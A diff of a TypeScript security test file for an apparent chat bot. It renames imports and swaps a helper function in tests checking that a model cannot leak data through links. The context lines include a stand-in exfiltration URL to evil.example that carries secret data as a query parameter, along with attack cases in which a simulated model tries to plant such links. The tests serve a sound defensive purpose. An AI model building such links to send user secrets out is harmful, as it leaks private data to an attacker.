@@ -4,10 +4,10 @@ import assert from "node:assert/strict";
 import { Buffer } from "node:buffer";
 import { describe, it } from "node:test";
 import { setTimeout as sleep } from "node:timers/promises";
-import { EMPTY_DRAFT } from "../../../simulator/acts/draft.ts";
-import { postMessage } from "../../../simulator/acts/messages.ts";
+import { EMPTY_DRAFT } from "../../../simulator/actions/draft.ts";
+import { postMessage } from "../../../simulator/actions/messages.ts";
 import { wordsOf } from "../../../simulator/model/script.ts";
-import { API_KEY, onStage, type Scene } from "../../support/bot/e2e.ts";
+import { API_KEY, type Scene, withSimulation } from "../../support/bot/e2e.ts";
 import { startFixedModel } from "../../support/model/fixed_model.ts";
 
 const SUPPRESS_EMBEDS = 1 << 2;
@@ -76,7 +76,7 @@ const ATTACKS: readonly (readonly [what: string, answer: string, link?: string])
 
 describe("[SEC-R7] a model that wants to leak data by links", () => {
   it("leaves no link whole but the sender's, and sends no secret", () =>
-    onStage({ simulator: { rateLimits: false } }, async (scene) => {
+    withSimulation({ simulator: { rateLimits: false } }, async (scene) => {
       const { simulator, start, say, mention, replies } = scene;
       await using model = await startFixedModel((asked) =>
         ATTACKS[Number(/attack (\d+)!/.exec(wordsOf(asked))?.[1])]?.[1] ?? "no such attack"
@@ -98,7 +98,7 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
     }));
 
   it("trusts no link in a quote, an embed, a file, overheard or forwarded text", () =>
-    onStage({}, async (scene) => {
+    withSimulation({}, async (scene) => {
       const { simulator, start, say, mention, replies, user } = scene;
       const named = `https://evil.example/?k=${DATA}`;
       await using model = await startFixedModel(() => `Read ${named}`);
@@ -131,7 +131,7 @@ describe("[SEC-R7] a model that wants to leak data by links", () => {
     }));
 
   it("shows no link while it grows, nor in two halves of a long answer", () =>
-    onStage({
+    withSimulation({
       discord: () => ({ streaming: "edit", textChunkLimit: 200 }),
     }, async (scene) => {
       const { simulator, start, say, mention, until } = scene;
